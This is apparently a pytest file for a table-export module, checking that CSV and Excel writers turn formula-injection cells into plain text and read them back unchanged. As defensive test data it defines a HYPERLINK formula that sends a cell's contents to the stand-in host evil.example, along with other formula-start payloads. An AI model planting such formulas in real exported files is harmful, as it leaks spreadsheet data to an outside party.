"""Exported tables never carry a live formula (OWASP's CSV injection), and read back the
same."""

import csv
import io

import openpyxl
import pytest

from documents.tables import csv_write, table_read, xlsx_write

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
STARTS = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", STARTS)
def test_a_csv_cell_that_would_run_as_a_formula_is_text(value):
    content = csv_write(["name"], [[value]])
    _header, (cell,) = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert cell == "'" + value
    assert table_read("back.csv", content) == [["name"], [value]]


def test_an_excel_cell_that_would_run_as_a_formula_is_a_string():
    content = xlsx_write(["name", "score"], [[EVIL, -3], ["Rosa", 4]], "Sheet")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    evil, number = sheet["A2"], sheet["B2"]
    assert evil.data_type == "s" and evil.value == "'" + EVIL
    assert number.value == -3  # numbers stay numbers
    assert table_read("back.xlsx", content)[1:] == [[EVIL, "-3"], ["Rosa", "4"]]
